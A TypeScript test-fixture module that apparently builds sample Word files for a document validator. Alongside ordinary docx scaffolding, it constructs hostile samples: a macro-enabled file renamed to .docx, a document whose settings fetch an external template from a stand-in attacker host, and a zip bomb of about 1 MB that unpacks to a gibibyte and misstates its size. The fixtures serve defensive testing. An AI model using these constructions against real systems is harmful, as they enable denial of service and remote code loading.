import { constants, crc32, deflateRawSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { joined, rawZip } from './archive.ts';

const MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const MACRO_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const RELATIONS = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

export const contentTypes = (main = MAIN, more = ''): string =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>${more}
<Override PartName="/word/document.xml" ContentType="${main}"/>
</Types>`;

const MACRO_DEFAULT = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>';

export const relationship = (type: string, target: string, mode = ''): string =>
  `<Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;

export const relationships = (...inside: string[]): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${RELATIONS}">${inside.join('')}</Relationships>`;

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

const wordPart = (element: string, inside: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?><w:${element} xmlns:w="${W}">${inside}</w:${element}>`;

const documentOf = (text: string): string =>
  wordPart('document', `<w:body>\n<w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body>`);

const run = (inside: string): string => `<w:r>${inside}</w:r>`;

/** 域, as Word writes it: begin, the instruction in as many runs as given, what it shows, end. */
export const field = (...instruction: string[]): string =>
  [
    run('<w:fldChar w:fldCharType="begin"/>'),
    ...instruction.map((piece) => run(`<w:instrText xml:space="preserve">${piece}</w:instrText>`)),
    run('<w:fldChar w:fldCharType="separate"/>'),
    run('<w:t>1</w:t>'),
    run('<w:fldChar w:fldCharType="end"/>'),
  ].join('');

/** A docx with these runs in its body. */
export const bodyDocx = (runs: string): Uint8Array =>
  docxWith({ 'word/document.xml': wordPart('document', `<w:body><w:p>${runs}</w:p></w:body>`) });

const HEADER = 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml';

/** A docx with these runs in its header. */
export const headerDocx = (runs: string): Uint8Array =>
  docxWith({
    '[Content_Types].xml': contentTypes(
      MAIN,
      `<Override PartName="/word/header1.xml" ContentType="${HEADER}"/>`,
    ),
    'word/header1.xml': wordPart('hdr', `<w:p>${runs}</w:p>`),
  });

type Parts = Readonly<Record<string, string | Uint8Array>>;

const sound = (text: string): Parts => ({
  '[Content_Types].xml': contentTypes(),
  '_rels/.rels': relationships(relationship('officeDocument', 'word/document.xml')),
  'word/document.xml': documentOf(text),
});

/** Word 样本: a sound docx, with parts added or replaced. */
export function docxWith(parts: Parts, text = '创新联合体组建方案'): Uint8Array {
  const all = Object.entries({ ...sound(text), ...parts });
  return zipSync(
    Object.fromEntries(all.map(([name, part]) => [name, typeof part === 'string' ? strToU8(part) : part])),
  );
}

/** A docx that Word and WPS open. */
export const goodDocx = (text?: string): Uint8Array => docxWith({}, text);

/** 含宏的 Word 文件: what a .docm renamed to .docx is. */
export const macroDocx = (): Uint8Array =>
  docxWith({
    '[Content_Types].xml': contentTypes(MACRO_MAIN, MACRO_DEFAULT),
    'word/_rels/document.xml.rels': relationships(relationship('vbaProject', 'vbaProject.bin')),
    'word/vbaProject.bin': strToU8('Attribute VB_Name = "ThisDocument"'),
  });

/** 引用外部模板的 Word 文件. */
export const externalTemplateDocx = (): Uint8Array =>
  docxWith({
    'word/_rels/settings.xml.rels': relationships(
      relationship('attachedTemplate', 'https://attacker.example/t.dotm', 'External'),
    ),
  });

const MEBIBYTE = 1024 * 1024;

/** 压缩炸弹: about 1 MB which unpacks to a gibibyte of zeros; `declared` is what its directory admits to. */
export function zipBombDocx(declared = 1024 * MEBIBYTE): Uint8Array {
  const zeros = new Uint8Array(MEBIBYTE);
  // Flushed without a final block, the same packed mebibyte can be repeated as often as one likes.
  const packed = deflateRawSync(zeros, { finishFlush: constants.Z_FULL_FLUSH });
  const packedAll = joined(...Array.from({ length: 1024 }, () => packed), deflateRawSync(new Uint8Array()));
  let checksum = 0;
  for (let count = 0; count < 1024; count += 1) checksum = crc32(zeros, checksum);
  const parts = Object.entries(sound('')).map(([name, part]) => ({ name, packed: Buffer.from(part) }));
  const bomb = {
    name: 'word/media/image1.bmp',
    packed: packedAll,
    method: 8,
    checksum,
    size: declared,
  } as const;
  return rawZip([...parts, bomb]);
}
